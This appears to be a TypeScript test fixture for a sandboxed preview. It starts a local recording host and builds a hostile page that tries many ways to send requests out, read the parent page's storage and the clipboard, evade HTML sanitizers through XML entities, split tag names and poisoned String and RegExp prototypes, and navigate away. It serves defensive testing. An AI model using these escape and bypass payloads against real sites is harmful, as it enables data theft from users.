import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** A host that nothing in a preview may reach: it notes each request, each bare connection and each packet. */
export interface OtherHost {
  /** Its origin, without a slash at the end. */
  origin: string;
  /** Where WebRTC would ask for its own address: `127.0.0.1:port`, over UDP. */
  stun: string;
  reached: string[];
  close(): Promise<void>;
}

export async function startOtherHost(): Promise<OtherHost> {
  const reached: string[] = [];
  const server = createServer((request, response) => {
    reached.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.end('<!doctype html><title>elsewhere</title>');
  });
  server.on('connection', () => reached.push('connection'));
  const udp = createSocket('udp4');
  udp.on('message', () => reached.push('packet'));
  await Promise.all([
    new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve)),
    new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve)),
  ]);
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    stun: `127.0.0.1:${udp.address().port}`,
    reached,
    close: async () => {
      udp.close();
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

/**
 * A page that tries every way out, and says to its console what it could read, and `tried`. If it `leaves`, it also tries to take
 * the page around it along.
 */
export function hostilePage({ origin, stun }: OtherHost, leaves = true): string {
  const { parsed, run } = { parsed: markup(origin), run: tryAll.toString() };
  return `<!doctype html><html><head><title>Hostile</title>${parsed.head}</head><body>${parsed.body}
<script>(${run})(...${JSON.stringify([origin, stun, frameWords(stun), leaves]).replaceAll('<', '\\u003c')})</script></body></html>`;
}

/** What a frame within the frame would run: WebRTC of its own. */
function frameWords(stun: string): string {
  return (
    `<script>const c=new RTCPeerConnection({iceServers:[{urls:"stun:${stun}"}]});c.createDataChannel("");c.createOffer().then(o=>c.setLocalDescription(o))</scr` +
    'ipt>'
  );
}

/** What the parser alone would load. */
export function markup(origin: string): { head: string; body: string } {
  const links = [
    'preconnect',
    'dns-prefetch',
    'prefetch',
    'prerender',
    'stylesheet',
    'icon',
    'modulepreload',
    'manifest',
  ];
  return {
    head: `${links.map((rel) => `<link rel="${rel}" href="${origin}/${rel}" crossorigin>`).join('')}
<link rel="preload" as="image" href="${origin}/preload">
<meta http-equiv="x-dns-prefetch-control" content="on">
<style>@import "${origin}/import"; @font-face{font-family:f;src:url(${origin}/font)} body{font-family:f;background:url(${origin}/background)}</style>
<script src="${origin}/script"></script><script type="module">import "${origin}/module"</script>
<script type="speculationrules">{"prefetch":[{"urls":["${origin}/speculation"]}],"prerender":[{"urls":["${origin}/prerender-rule"]}]}</script>
<base href="${origin}/base/">`,
    body: `<img src="${origin}/img" srcset="${origin}/srcset 2x" attributionsrc="${origin}/attribution">
<picture><source srcset="${origin}/source"><img src="data:,"></picture>
<video src="${origin}/video" poster="${origin}/poster" autoplay></video><audio src="${origin}/audio" autoplay></audio>
<svg><image href="${origin}/svg-image"/><use href="${origin}/svg-use#a"/></svg>
<iframe src="${origin}/iframe"></iframe><object data="${origin}/object"></object><embed src="${origin}/embed">
<input type="image" src="${origin}/input"><table background="${origin}/table"><tr><td>
<a href="${origin}/a" ping="${origin}/ping" id="a">a</a><a href="${origin}/download" download id="d">d</a>
<form action="${origin}/form" method="post" id="f"><input name="x" value="1"><button id="s">s</button></form>`,
  };
}

/** Runs in the preview. It may use nothing from outside of itself. */
async function tryAll(origin: string, stun: string, frameWords: string, leaves: boolean): Promise<void> {
  const read: string[] = [];
  const linkName = ['li', 'nk'].join('');
  const asIs = (text: string): string => text;
  const writer = document as unknown as { write(text: string): void };
  const attempts: (() => unknown)[] = [
    () => fetch(`${origin}/fetch`, { mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', `${origin}/xhr`);
      request.send();
    },
    () => new WebSocket(`${origin.replace('http', 'ws')}/websocket`),
    () => new EventSource(`${origin}/eventsource`),
    () => navigator.sendBeacon(`${origin}/beacon`, 'x'),
    () => new (window as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(`${origin}/transport`),
    () => (new Image().src = `${origin}/image`),
    () => new FontFace('g', `url(${origin}/fontface)`).load(),
    () => import(/* @vite-ignore */ `${origin}/import-script`),
    () => new Worker(`${origin}/worker`),
    () =>
      new Worker(
        URL.createObjectURL(new Blob([`fetch("${origin}/in-worker");importScripts("${origin}/import-in-worker")`])),
      ),
    () => new SharedWorker(`${origin}/shared`),
    () => navigator.serviceWorker.register(`${origin}/leak-worker.js`),
    () => navigator.serviceWorker.register('./leak-worker.js').then(() => read.push('service worker')),
    () => (document.cookie = 'a=b'),
    () => read.push(window.parent.document.title),
    () => read.push(window.parent.localStorage.length.toString()),
    () => read.push(...Object.keys(localStorage)),
    () => indexedDB.databases().then((all) => read.push(...all.map(({ name }) => name ?? ''))),
    () => caches.keys().then((keys) => read.push(...keys)),
    () => navigator.clipboard.readText().then((text) => read.push(text)),
    ...['RTCPeerConnection', 'webkitRTCPeerConnection', 'mozRTCPeerConnection'].map((name) => () => {
      const Connection = (window as unknown as Record<string, new (options: object) => RTCPeerConnection>)[name]!;
      const connection = new Connection({ iceServers: [{ urls: `stun:${stun}` }] });
      connection.createDataChannel('');
      return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
    }),
    // A frame within, made in every way there is. Names are in pieces, as whole tags in this script would be replaced.
    ...(['preconnect', 'dns-prefetch', 'prefetch', 'stylesheet'] as const).map((rel) => () => {
      const link = `<${linkName} rel="${rel}" href="${origin}/set-${rel}">`;
      const sanitizer = { elements: [{ name: linkName, attributes: ['rel', 'href'] }] };
      const element = document.body.appendChild(document.createElement('div')) as unknown as {
        setHTML(html: string, options: object): void;
      };
      element.setHTML(link, { sanitizer });
    }),
    () => {
      class Built extends HTMLLinkElement {}
      customElements.define('built-in', Built, { extends: linkName });
      document.head.append(Object.assign(new Built(), { rel: 'preconnect', href: `${origin}/built-in` }));
    },
    ...[
      // An entity of XML, which can spell any name, and a name with a prefix.
      (name: string, words: string) =>
        `<!DOCTYPE html [<!ENTITY e "&#60;${name} srcdoc='${words}'/>">]><html>&e;</html>`,
      (name: string, words: string) =>
        `<html xmlns:a-very-long-prefix="xmlns"><a-very-long-prefix:${name} srcdoc="${words}"/></html>`,
    ].map((make) => () => {
      const words = frameWords.replaceAll('<', '&lt;').replaceAll('"', '&quot;');
      const html = make(['ifr', 'ame'].join(''), words).replace('<html', '<html xmlns="xmlns"');
      const xml = html.replaceAll('"xmlns"', '"http://www.w3.org/1999/xhtml"');
      document.body.append(
        document.adoptNode(new DOMParser().parseFromString(xml, 'application/xhtml+xml').documentElement),
      );
    }),
    ...['preconnect', 'dns-prefetch', 'prefetch', 'stylesheet'].map((rel) => () => {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: `${origin}/made-${rel}` });
      document.head.append(link);
    }),
    ...['iframe', 'IFRAME', 'object', 'embed', 'frame'].flatMap((name) => [
      () => {
        const frame = document.createElement(name) as HTMLIFrameElement;
        frame.srcdoc = frameWords;
        document.body.append(frame);
      },
      () => {
        const frame = document.createElementNS('http://www.w3.org/1999/xhtml', `x:${name.toLowerCase()}`);
        frame.setAttribute('srcdoc', frameWords);
        frame.setAttribute('src', `javascript:document.write(${JSON.stringify(frameWords)})`);
        document.body.append(frame);
      },
    ]),
    () => {
      // The language itself made to lie: what keeps frames out must not ask it.
      String.prototype.replace = asIs as never;
      String.prototype.toLowerCase = function () {
        return 'p';
      };
      String.prototype.indexOf = () => -1;
      String.prototype.startsWith = () => false;
      RegExp.prototype.test = () => false;
      RegExp.prototype.exec = () => null;
      Array.prototype.some = () => false;
      Array.prototype.includes = () => false;
    },
    ...[
      (html: string) => (document.body.appendChild(document.createElement('div')).innerHTML = html),
      (html: string) => document.body.insertAdjacentHTML('beforeend', html),
      (html: string) => document.body.append(document.createRange().createContextualFragment(html)),
      (html: string) =>
        document.body.append(document.adoptNode(new DOMParser().parseFromString(html, 'text/html').body)),
      (html: string) => document.body.appendChild(document.createElement('div')).setHTMLUnsafe(html),
      (html: string) => {
        document.body.append(
          document.adoptNode(
            new DOMParser().parseFromString(
              `<body xmlns="http://www.w3.org/1999/xhtml">${html.replaceAll('&', '&amp;')}</body>`,
              'application/xhtml+xml',
            ).documentElement,
          ),
        );
      },
      (html: string) =>
        (document.body.appendChild(document.createElement('div')).attachShadow({ mode: 'closed' }).innerHTML = html),
      (html: string) => {
        const policy = (
          window as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): { createHTML(text: string): string } };
          }
        ).trustedTypes.createPolicy('mine', { createHTML: asIs });
        document.body.appendChild(document.createElement('div')).innerHTML = policy.createHTML(html);
      },
      (html: string) => {
        writer.write(html.slice(0, 4));
        writer.write(html.slice(4));
      },
    ].map((put) => () => put(`<iframe srcdoc="${frameWords.replaceAll('"', '&quot;')}"></iframe>`)),
    () => window.open(`${origin}/open`),
  ];
  const leaving: (() => unknown)[] = [
    () => (window.top!.location.href = `${origin}/top`),
    () => (window.parent.location.href = `${origin}/parent`),
    () => document.getElementById('a')!.click(),
    () => document.getElementById('d')!.click(),
    () => document.getElementById('s')!.click(),
    () => (document.getElementById('f') as HTMLFormElement).submit(),
    () => history.back(),
    () => history.go(-2),
  ];
  const pending: unknown[] = [];
  for (const attempt of leaves ? [...leaving, ...attempts] : attempts) {
    try {
      pending.push(attempt());
    } catch {
      // Forbidden: so it should be.
    }
  }
  void Promise.allSettled(pending);
  // Some never settle, and what they would reach, they would reach by now.
  await new Promise((next) => setTimeout(next, 1500));
  console.log(`read: ${read.join() || 'nothing'}`);
  console.log('tried');
}

/** A page that goes to another host, by script and by itself. */
export function leavingPage({ origin }: OtherHost): string {
  return `<meta http-equiv="refresh" content="1;url=${origin}/refresh?data"><script>location.href = "${origin}/self?data"</script>`;
}
